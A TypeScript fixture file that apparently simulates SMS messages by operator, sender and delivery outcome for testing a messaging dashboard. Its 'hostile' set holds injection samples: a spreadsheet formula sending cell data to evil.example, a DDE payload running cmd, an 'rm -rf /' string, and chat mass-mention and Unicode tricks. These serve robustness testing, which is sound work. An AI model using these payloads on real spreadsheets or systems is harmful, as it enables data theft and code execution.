import { SECONDS_A_DAY, SECONDS_A_MINUTE, SECONDS_AN_HOUR } from '../calendar.ts';
import type { Draw } from './draw.ts';
import type { Fate } from './message.ts';
import { codeText, deliveryText, marketingText, reminderText } from './senders.ts';

/** One message of a named number, the same every day but for its text. */
export interface Scene {
  /** Second of the UTC day. Office hours in Chile are about 13:00 to 22:00 UTC all year. */
  readonly at: number;
  readonly operator: string;
  readonly sender: string;
  readonly write: (draw: Draw) => string;
  readonly fate: Fate;
  /** The platform kept nothing but the number. */
  readonly isLost?: true;
}

const handOver = { saysAfter: 2, knownAfter: 3 };
const prompt: Fate = {
  pending: 'sent',
  handOver,
  receipt: { status: 'delivered', saysAfter: 8, knownAfter: 10 },
};
const sentFailed: Fate = { pending: 'sent', handOver, receipt: { status: 'sent_failed', knownAfter: 6 } };
const undeliverable: Fate = {
  pending: 'sent',
  handOver,
  receipt: { status: 'undeliverable', saysAfter: 41, knownAfter: 44 },
};
const slowReceipt: Fate = {
  pending: 'enroute',
  handOver,
  receipt: { status: 'delivered', saysAfter: 9, knownAfter: 10 * SECONDS_A_MINUTE + 20 },
};
const stuck: Fate = { pending: 'enroute', handOver };
const neverHandedOver: Fate = { pending: 'accepted' };
const clockOff: Fate = {
  pending: 'sent',
  handOver: { saysAfter: 2 - 2 * SECONDS_AN_HOUR, knownAfter: 3 },
  receipt: { status: 'delivered', saysAfter: 9 - 2 * SECONDS_AN_HOUR, knownAfter: 11 },
};
const late: Fate = {
  pending: 'enroute',
  handOver,
  receipt: { status: 'delivered', saysAfter: 25 * SECONDS_A_MINUTE, knownAfter: 25 * SECONDS_A_MINUTE + 3 },
};
const noReceipts: Fate = { pending: 'sent', handOver: { saysAfter: 4, knownAfter: 5 } };

const code = { sender: '56001', write: codeText };
const reminder = { sender: '56002', write: reminderText };
const offer = { sender: '56003', write: marketingText };
const parcel = { sender: '56004', write: deliveryText };

const LONG_TEXT_LENGTH = 4000;
const RIGHT_TO_LEFT_OVERRIDE = '\u202e';

/** Texts that break a careless view, spreadsheet or log. */
const hostileTexts: readonly string[] = [
  '<!channel> <!here> <!everyone> aviso urgente',
  'Hola <@U1>, revise <#C1|general> y <!subteam^S1>',
  '<https://evil.example|click> para ganar & cobrar <b>ya</b>',
  '```rm -rf /``` y `código` *negrita* _cursiva_ ~tachado~ &amp; > cita',
  `Su saldo es ${RIGHT_TO_LEFT_OVERRIDE}000.1$ hoy\u0007\u200b`,
  ''.padEnd(LONG_TEXT_LENGTH, 'Texto muy largo, una y otra vez. '),
  '=HYPERLINK("https://evil.example/?x="&A1,"premio")',
  '+cmd|\' /C calc\'!A0\r\n@SUM(1+1)*"comillas", "coma"; punto y coma\n-2+3',
];

export const scenes = {
  delivered: [
    { at: clock('13:05:20'), operator: 'Entel', ...code, fate: prompt },
    { at: clock('16:30:40'), operator: 'Entel', ...reminder, fate: prompt },
    { at: clock('21:45:10'), operator: 'Entel', ...code, fate: prompt },
  ],
  failed: [
    { at: clock('12:48:05'), operator: 'Claro', ...code, fate: sentFailed },
    { at: clock('15:20:31'), operator: 'Claro', ...code, fate: sentFailed },
    { at: clock('19:10:44'), operator: 'Claro', ...reminder, fate: undeliverable },
    { at: clock('22:02:17'), operator: 'Claro', ...code, fate: undeliverable },
  ],
  waiting: every(10 * SECONDS_A_MINUTE, { operator: 'Movistar', ...code, fate: slowReceipt }),
  stuck: [
    { at: clock('14:02:09'), operator: 'WOM', ...code, fate: stuck },
    { at: clock('20:17:52'), operator: 'WOM', ...parcel, fate: stuck },
  ],
  'no-hand-over': [
    { at: clock('13:33:13'), operator: 'Entel', ...code, fate: neverHandedOver },
    { at: clock('19:41:27'), operator: 'Entel', ...code, fate: neverHandedOver },
  ],
  dashes: [
    {
      at: clock('12:20:00'),
      operator: '-',
      sender: '-',
      write: () => '-',
      fate: neverHandedOver,
      isLost: true,
    },
    {
      at: clock('18:50:00'),
      operator: '-',
      sender: '-',
      write: () => '-',
      fate: neverHandedOver,
      isLost: true,
    },
  ],
  'clock-off': [
    { at: clock('13:11:30'), operator: 'VTR', ...code, fate: clockOff },
    { at: clock('17:08:02'), operator: 'VTR', ...reminder, fate: clockOff },
    { at: clock('21:26:48'), operator: 'VTR', ...code, fate: clockOff },
  ],
  hostile: hostileTexts.map((text, turn) => ({
    at: clock('12:15:00') + turn * 75 * SECONDS_A_MINUTE,
    operator: 'Movistar',
    sender: '56003',
    write: () => text,
    fate: prompt,
  })),
  many: every(576, { operator: 'Movistar', ...offer, fate: prompt }),
  none: [],
  late: [
    { at: clock('13:15:35'), operator: 'WOM', ...code, fate: prompt },
    { at: clock('15:40:18'), operator: 'WOM', ...code, fate: late },
    { at: clock('18:05:51'), operator: 'WOM', ...parcel, fate: prompt },
    { at: clock('21:20:06'), operator: 'WOM', ...code, fate: late },
  ],
  'no-receipts': [
    { at: clock('14:25:45'), operator: 'Ruta Andina', ...code, fate: noReceipts },
    { at: clock('20:52:33'), operator: 'Ruta Andina', ...offer, fate: noReceipts },
  ],
  foreign: [
    { at: clock('12:55:29'), operator: 'Orange ES', ...code, fate: prompt },
    { at: clock('18:35:57'), operator: 'Orange ES', ...parcel, fate: prompt },
  ],
} satisfies Readonly<Record<string, readonly Scene[]>>;

function clock(time: string): number {
  const [hours = 0, minutes = 0, seconds = 0] = time.split(':').map(Number);
  return hours * SECONDS_AN_HOUR + minutes * SECONDS_A_MINUTE + seconds;
}

/** The same all day long; the first comes at the first second of the day. */
function every(seconds: number, scene: Omit<Scene, 'at'>): readonly Scene[] {
  return Array.from({ length: Math.floor(SECONDS_A_DAY / seconds) }, (_, turn) => ({
    ...scene,
    at: turn * seconds,
  }));
}
